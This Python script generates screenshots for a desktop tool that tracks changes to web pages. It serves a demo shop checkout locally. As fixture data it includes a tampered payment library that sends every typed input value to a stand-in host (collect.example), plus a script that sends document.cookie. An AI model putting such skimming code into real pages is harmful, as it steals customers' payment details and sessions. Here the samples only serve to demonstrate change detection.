"""Take the README's pictures of the app with demo data, to docs/*.png.

    docs/screenshots_under_xvfb.sh      # a real X server with a window manager: title bars
    .venv/bin/python docs/screenshots.py --offscreen   # no display at all: the windows only

A local HTTP server plays a small shop whose checkout page changes between checks (a new
third-party script, a payment library whose bytes no longer match its integrity attribute), in a
throw-away data directory; nothing leaves the machine. Under X each window is taken from the
screen with its frame (ImageMagick's `import`); offscreen, Qt paints the window alone.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import os
import subprocess
import sys
import tempfile
from pathlib import Path

OFFSCREEN = "--offscreen" in sys.argv or not os.environ.get("DISPLAY")
if OFFSCREEN:
    os.environ["QT_QPA_PLATFORM"] = "offscreen"
os.environ.setdefault("QT_API", "pyside6")
ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

import qasync  # noqa: E402
from PySide6.QtWidgets import QApplication, QWidget  # noqa: E402

from desktop_tracker.core.retry import RetryStrategy  # noqa: E402
from desktop_tracker.domain.trackers import Tracker  # noqa: E402
from desktop_tracker.gui.app import DesktopApp  # noqa: E402
from desktop_tracker.gui.body_diff_view import BodyDiffWindow  # noqa: E402
from desktop_tracker.gui.kinds.resources_diff import ResourcesDiffView  # noqa: E402
from desktop_tracker.gui.single_instance import server_name  # noqa: E402
from desktop_tracker.gui.theme import apply_theme  # noqa: E402
from desktop_tracker.gui.tracker_editor import TrackerEditor  # noqa: E402
from tests.support.http_server import LocalServer  # noqa: E402

OUT = ROOT / "docs"


def payment_library(version: str) -> bytes:
    """A minified library as sites serve it: one long line, which the body diff lays out."""
    parts = [
        f'/*! payment lib {version} */!function(w,d){{"use strict";var api="https://pay.example/v3";'
    ]
    for n in range(40):
        parts.append(
            f"function f{n}(a,b){{if(!a)return null;var c=a.items||[];"
            f"for(var i=0;i<c.length;i++){{b+=c[i].price*c[i].qty}}return b.toFixed(2)}}"
        )
    if version != "3.2":  # the new version also reads what the customer types
        parts.append(
            'd.addEventListener("input",function(e){new Image().src='
            '"https://collect.example/i?v="+encodeURIComponent(e.target.value)});'
        )
    parts.append("w.Payment={total:f0,api:api}}(window,document);")
    return "".join(parts).encode()


async def settle(seconds: float) -> None:
    """Let the loop run (events, repaints, the window manager's frame) for a while."""
    await asyncio.sleep(seconds)  # the Qt loop runs meanwhile: qasync is the loop


def shot(widget: QWidget, name: str) -> None:
    """The widget as a user sees it: under X with its title bar, from the screen."""
    path = OUT / name
    if OFFSCREEN:
        widget.grab().save(str(path))
        return
    frame = widget.frameGeometry()
    crop = f"{frame.width()}x{frame.height()}+{frame.x()}+{frame.y()}"
    subprocess.run(["import", "-window", "root", "-crop", crop, "+repage", str(path)], check=True)


def sri(data: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(data).digest()).decode()


def checkout(server: LocalServer, *, changed: bool) -> str:
    lib = payment_library("3.2")
    tags = [
        f'<script src="/js/payment.js" integrity="{sri(lib)}"></script>',
        '<script src="/js/app.js"></script>',
        '<link rel="stylesheet" href="/css/shop.css">',
        "<style>.basket{display:flex}</style>",
        "<script>window.dataLayer=[]</script>",
    ]
    if changed:
        tags.append(f'<script src="{server.url("/collect.js", host="localhost")}"></script>')
    return "<!doctype html><html><head>" + "".join(tags) + "</head><body>Checkout</body></html>"


async def make(data_dir: Path) -> None:
    with LocalServer() as server:
        server.route("/js/payment.js", payment_library("3.2"), content_type="text/javascript")
        server.route("/js/app.js", "app.start()", content_type="text/javascript")
        server.route("/css/shop.css", "body{margin:0}", content_type="text/css")
        server.route("/collect.js", "send(document.cookie)", content_type="text/javascript")
        server.route("/checkout", checkout(server, changed=False))
        server.route("/blog", "<html><script src='/js/app.js'></script></html>")
        server.route("/docs", "<html><link rel=stylesheet href='/css/shop.css'></html>")

        app = DesktopApp(data_dir, server_name(data_dir))
        running = asyncio.ensure_future(app.run())
        while app.window is None:
            await asyncio.sleep(0.05)
        trackers = app.services.trackers
        assert trackers is not None
        shop = await trackers.add(
            Tracker(
                "Checkout",
                server.url("/checkout"),
                schedule="*/30 * * * *",
                timezone="Europe/Paris",
                retry=RetryStrategy(
                    "exponential", attempts=4, initial=60, multiplier=2, maximum=900
                ),
                headers={"Cookie": "session=demo"},
            )
        )
        blog = await trackers.add(Tracker("Blog", server.url("/blog"), schedule="@daily"))
        await trackers.add(
            Tracker("Docs", server.url("/docs"), schedule="0 9 * * 1", timezone="America/New_York")
        )
        status = await trackers.add(
            Tracker("Status page", server.url("/status"), schedule="0 0 */2 * 1", timezone="UTC")
        )
        for tracker in (shop, blog, status):
            assert tracker.id is not None
            await (await trackers.check_now(tracker.id))  # type: ignore[misc]
        server.route("/js/payment.js", payment_library("3.3"), content_type="text/javascript")
        server.route("/checkout", checkout(server, changed=True))
        assert shop.id is not None
        await (await trackers.check_now(shop.id))  # type: ignore[misc]
        await trackers.wait_beautified()
        qt = QApplication.instance()
        assert isinstance(qt, QApplication)

        window = app.window
        window.resize(1280, 560)
        window.move(40, 30)
        window.show()
        window.refresh()
        await settle(1.0)
        shot(window, "main-window.png")
        apply_theme(qt, "dark")
        await settle(0.8)
        shot(window, "main-window-dark.png")
        apply_theme(qt, "light")
        await settle(0.5)

        editor = TrackerEditor(window, shop, ["Blog", "Docs"])
        editor.show()
        editor.move(120, 40)
        await settle(0.8)
        shot(editor, "tracker-editor.png")
        editor.reject()

        window.open_history(shop.id)
        history = window._history_windows[shop.id]
        history.resize(1200, 640)
        history.move(60, 40)
        history.raise_()
        history.activateWindow()
        await settle(1.5)
        shot(history, "history-diff.png")

        view = history.findChild(ResourcesDiffView)
        assert view is not None
        view.select_resource(server.url("/js/payment.js"))
        view.show_selected_bodies()
        for _ in range(200):
            if view.body_windows:
                break
            await asyncio.sleep(0.05)
        body = view.body_windows[0]
        assert isinstance(body, BodyDiffWindow)
        body.resize(1100, 620)
        body.move(100, 60)
        body.raise_()
        body.activateWindow()
        await settle(1.0)
        shot(body, "body-diff.png")
        apply_theme(qt, "dark")
        await settle(0.8)
        shot(body, "body-diff-dark.png")
        apply_theme(qt, "system")

        app.quit.set()
        await running
    print("wrote", ", ".join(p.name for p in sorted(OUT.glob("*.png"))))


def main() -> None:
    qt = QApplication.instance() or QApplication([])
    qt.setQuitOnLastWindowClosed(False)
    loop = qasync.QEventLoop(qt)
    asyncio.set_event_loop(loop)
    with tempfile.TemporaryDirectory() as folder:
        folder = os.environ.get("SCREENSHOTS_DATA", folder)  # to read its log afterwards
        loop.run_until_complete(make(Path(folder) / "data"))


if __name__ == "__main__":
    main()
